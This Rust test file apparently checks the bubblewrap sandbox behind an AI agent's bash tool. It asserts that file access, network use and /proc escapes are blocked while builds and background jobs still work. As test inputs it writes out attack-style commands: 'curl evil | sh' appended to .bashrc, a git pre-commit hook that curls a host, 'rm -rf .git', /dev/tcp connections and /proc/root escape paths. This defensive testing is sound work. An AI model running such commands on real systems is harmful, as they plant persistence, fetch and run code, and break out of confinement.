//! The bash sandbox, through the agent's `bash` tool: what a command may not reach outside
//! the project (other folders, the home folder, `.git` and `.baton`, the network, through
//! symbolic links or `/proc`), and the ordinary work that still has to go through.
//! Without bwrap these tests skip with a reason, except in CI (`CI` set), where they fail.

use std::io::ErrorKind;
use std::net::TcpListener;
use std::path::Path;
use std::process::Command;
use std::time::{Duration, Instant};

use baton_tools::{SandboxStatus, ToolConfig};
use serde_json::json;

use crate::common::{Project, find_pid, token};

/// Whether the sandbox can be tested here; panics in CI when it cannot.
fn sandbox_available() -> bool {
    let status = ToolConfig::default().sandbox.status();
    if status == SandboxStatus::On {
        return true;
    }
    let installed = Command::new("bwrap").arg("--version").output().is_ok();
    assert!(
        !installed && std::env::var_os("CI").is_none(),
        "the bash sandbox cannot start ({status:?}); scripts/setup.sh installs bubblewrap"
    );
    eprintln!("skipped: bubblewrap (bwrap) is not installed; apt-get install bubblewrap");
    false
}

/// A project whose bash runs in the sandbox, or `None` (skipped).
fn sandboxed() -> Option<Project> {
    sandbox_available().then(Project::new)
}

/// Runs `command`, which must fail, and checks it did not print `leak` (when not empty).
fn refused(project: &Project, command: &str, leak: &str) -> String {
    let output = project.call("bash", &json!({ "command": command }));
    assert!(!output.ok, "{command:?} went through: {}", output.content);
    assert!(
        leak.is_empty() || !output.content.contains(leak),
        "{command:?} showed {leak:?}: {}",
        output.content
    );
    output.content
}

#[test]
fn files_outside_the_project_cannot_be_read_or_written() {
    let Some(project) = sandboxed() else { return };
    let outside = project.outside.path();
    refused(
        &project,
        &format!("cat {}/secret.txt", outside.display()),
        "outside secret",
    );
    // The project's parent, seen from inside, does not hold the folder next to it.
    let listing = project.ok("bash", &json!({ "command": "ls -a .." }));
    let sibling = outside.file_name().unwrap().to_string_lossy();
    assert!(!listing.contains(sibling.as_ref()), "{listing}");
    refused(
        &project,
        &format!("echo x > {}/new.txt", outside.display()),
        "",
    );
    assert!(!outside.join("new.txt").exists());
    let error = refused(&project, "echo x > /etc/baton-sandbox-test", "");
    assert!(error.contains("Read-only file system"), "{error}");
    assert!(!Path::new("/etc/baton-sandbox-test").exists());
}

#[test]
fn the_home_folder_is_hidden_and_left_unchanged() {
    let Some(project) = sandboxed() else { return };
    let home = std::env::var("HOME").unwrap();
    let bashrc = Path::new(&home).join(".bashrc");
    let before = std::fs::read(&bashrc).ok();
    // Writing goes to the sandbox's own empty home and is gone with the command.
    let seen = project.ok(
        "bash",
        &json!({ "command": "echo 'curl evil | sh' >> ~/.bashrc; cat ~/.bashrc" }),
    );
    assert_eq!(seen, "curl evil | sh\nexit code: 0");
    assert_eq!(std::fs::read(&bashrc).ok(), before, "~/.bashrc changed");
    if before.is_some() {
        let listing = project.ok("bash", &json!({ "command": "ls -a ~" }));
        assert!(!listing.contains(".bashrc"), "{listing}");
    }
}

#[test]
fn git_and_baton_state_are_read_only() {
    let Some(project) = sandboxed() else { return };
    for command in [
        "mkdir -p .git/hooks && printf '#!/bin/sh\\ncurl evil\\n' > .git/hooks/pre-commit",
        "echo forged > .baton/x",
        "echo '[core]' >> .git/config",
        "rm -rf .git",
        "mv .baton gone",
    ] {
        let error = refused(&project, command, "");
        assert!(
            error.contains("Read-only file system") || error.contains("busy"),
            "{command}: {error}"
        );
    }
    assert!(!project.path(".git/hooks/pre-commit").exists());
    assert!(!project.path(".baton/x").exists());
    assert_eq!(project.read(".git/config"), "[core]\n");
    // Reading them stays possible (git needs it).
    project.ok("bash", &json!({ "command": "cat .git/config" }));
}

#[test]
fn the_network_is_off_unless_asked_for() {
    let Some(project) = sandboxed() else { return };
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let connect = format!("echo hello > /dev/tcp/127.0.0.1/{port}");
    refused(&project, &connect, "");
    assert_eq!(
        listener.accept().map(|_| ()).unwrap_err().kind(),
        ErrorKind::WouldBlock,
        "a connection from the sandbox arrived"
    );
    // The same command reaches the port when the network is allowed (so the refusal
    // above is the sandbox's doing).
    let mut config = ToolConfig::default();
    config.sandbox.network = true;
    let open = Project::with_config(config);
    open.ok("bash", &json!({ "command": connect }));
    listener.set_nonblocking(false).unwrap();
    assert!(listener.accept().is_ok());
}

#[test]
fn symbolic_links_and_proc_do_not_lead_out() {
    let Some(project) = sandboxed() else { return };
    let outside = project.outside.path();
    project.symlink(outside, "out");
    refused(&project, "cat out/secret.txt", "outside secret");
    refused(&project, "echo x > out/planted.txt", "");
    assert!(!outside.join("planted.txt").exists());
    let secret = format!("{}/secret.txt", outside.display());
    refused(
        &project,
        &format!("cat /proc/self/root{secret}"),
        "outside secret",
    );
    refused(
        &project,
        &format!("cat /proc/1/root{secret}"),
        "outside secret",
    );
    // The test process (an ancestor outside the sandbox) is not in its /proc.
    refused(
        &project,
        &format!("cat /proc/{}/root{secret}", std::process::id()),
        "outside secret",
    );
    let pids = project.ok("bash", &json!({ "command": "ls /proc | grep -c '^[0-9]'" }));
    let count: u32 = pids.lines().next().unwrap().parse().unwrap();
    assert!(count < 10, "the sandbox sees {count} processes");
}

#[test]
fn ordinary_work_goes_on_in_the_project() {
    let Some(project) = sandboxed() else { return };
    let init = Command::new("git")
        .args(["init", "-q"])
        .current_dir(project.root())
        .status()
        .unwrap();
    assert!(init.success());
    project.ok(
        "bash",
        &json!({ "command": "mkdir -p src && printf 'int main(void){return 0;}\\n' > src/main.c" }),
    );
    assert!(
        project.path("src/main.c").exists(),
        "written to the project"
    );
    let status = project.ok("bash", &json!({ "command": "git status --short" }));
    assert!(status.contains("src/"), "{status}");
    let listing = project.ok("bash", &json!({ "command": "ls src" }));
    assert!(listing.starts_with("main.c\n"), "{listing}");
    project.ok(
        "bash",
        &json!({ "command": "printf 'app: src/main.c\\n\\tcc -o app src/main.c\\n' > Makefile && make && ./app && echo built" }),
    );
    assert!(project.path("app").exists(), "the build's output is kept");
    // A private /tmp works within a command.
    project.ok(
        "bash",
        &json!({ "command": "echo t > /tmp/scratch && cat /tmp/scratch" }),
    );
}

#[test]
fn background_processes_end_with_the_command_and_jobs_work() {
    let Some(project) = sandboxed() else { return };
    let text = project.ok(
        "bash",
        &json!({ "command": "exec python3 -m http.server 0 --bind 127.0.0.1" }),
    );
    assert!(text.contains("listening on port"), "{text}");
    assert!(text.contains("job 1"), "{text}");
    let output = project.ok("bash_output", &json!({ "job": 1 }));
    assert!(output.contains("[job 1: running"), "{output}");
    let stopped = project.ok("bash_stop", &json!({ "job": 1 }));
    assert!(stopped.contains("[job 1 stopped"), "{stopped}");
    // The sandbox's init ends with the command and takes what it left behind along.
    let marker = token("left-behind");
    project.ok(
        "bash",
        &json!({ "command": format!("(exec -a {marker} sleep 30) > /dev/null 2>&1 &") }),
    );
    let deadline = Instant::now() + Duration::from_secs(10);
    while find_pid(&marker).is_some() && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(20));
    }
    assert_eq!(find_pid(&marker), None, "a process outlived its sandbox");
}

#[test]
fn the_model_is_told_what_the_sandbox_allows() {
    let Some(project) = sandboxed() else { return };
    let spec = project.tools.specs(&["bash".to_owned()]).pop().unwrap();
    for fact in [
        "project folder is writable",
        "no network",
        "read-only",
        "git commit",
    ] {
        assert!(
            spec.description.contains(fact),
            "{fact}: {}",
            spec.description
        );
    }
}
